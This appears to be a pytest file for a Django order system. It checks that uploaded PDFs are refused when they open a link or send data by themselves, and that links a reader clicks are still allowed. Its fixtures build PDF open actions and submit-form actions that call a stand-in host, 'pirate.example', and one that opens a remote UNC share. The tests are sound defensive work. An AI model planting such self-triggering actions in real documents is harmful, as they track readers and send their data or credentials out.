"""Uploaded PDFs that open a link or send data by themselves (issue 14,
finding 5): an /OpenAction or an /AA (additional action) with a URI, a form
submission or another document is refused, as is a form that sends its data;
a link the reader clicks is not."""

from __future__ import annotations

import io
from http import HTTPStatus

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from orders import uploads
from orders.models import Document
from orders.states import State
from tests import factories
from tests.test_documents import annotation, pdf_bytes


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{key}"): value for key, value in entries.items()}}
    )


def uri(address: str = "https://pirate.example/?vu=1") -> DictionaryObject:
    return action("/URI", URI=TextStringObject(address))


def submit() -> DictionaryObject:
    return action("/SubmitForm", F=TextStringObject("https://pirate.example/collect"))


def open_action(made):
    def change(writer):
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(made())

    return change


def page_open(made):
    def change(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): made()})

    return change


def catalog_additional(made):
    def change(writer):
        writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): made()})

    return change


def chained_after_a_harmless_action(writer):
    first = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))
    first[NameObject("/Next")] = ArrayObject([uri()])
    writer.root_object[NameObject("/OpenAction")] = first


def submit_button(writer):
    annotation(writer, Subtype=NameObject("/Widget"), FT=NameObject("/Btn"), A=submit())


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (open_action(uri), "ouvre un lien ou envoie des données dès son ouverture"),
        (open_action(submit), "ouvre un lien ou envoie des données dès son ouverture"),
        (open_action(lambda: action("/GoToR", F=TextStringObject("\\\\serveur\\partage\\x.pdf"))), "dès son ouverture"),
        (open_action(lambda: action("/ImportData", F=TextStringObject("donnees.fdf"))), "dès son ouverture"),
        (page_open(uri), "dès son ouverture"),
        (catalog_additional(submit), "dès son ouverture"),
        (chained_after_a_harmless_action, "dès son ouverture"),
        (submit_button, "formulaire qui envoie des données"),
    ],
    ids=["open-uri", "open-submit", "open-gotor", "open-import", "page-open-uri", "close-submit", "chained", "button"],
)
def test_a_pdf_that_reaches_outside_by_itself_is_refused(change, message):
    content = pdf_bytes(change)

    with pytest.raises(uploads.PdfRefused, match=message):
        uploads.check_pdf(io.BytesIO(content), size=len(content))


def test_a_link_the_reader_clicks_and_an_opening_at_page_one_are_accepted():
    def change(writer):
        annotation(writer, Subtype=NameObject("/Link"), A=uri("https://www.example.fr/notice"))
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [
                writer.pages[0].indirect_reference,
                NameObject("/XYZ"),
                NumberObject(0),
                NumberObject(842),
                NumberObject(1),
            ]
        )

    content = pdf_bytes(change)

    assert uploads.check_pdf(io.BytesIO(content), size=len(content)) == 1


def test_the_technician_is_told_why_through_the_upload_form(client, technician, order):
    order = factories.bring_to(order, State.FINISHED, technician)
    client.force_login(technician)
    upload = SimpleUploadedFile("rapport.pdf", pdf_bytes(open_action(uri)), content_type="application/pdf")

    response = client.post(f"/commandes/{order.pk}/documents/deposer/", {"file": upload, "title": "Rapport"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "dès son ouverture" in response.content.decode()
    assert not Document.objects.exists()
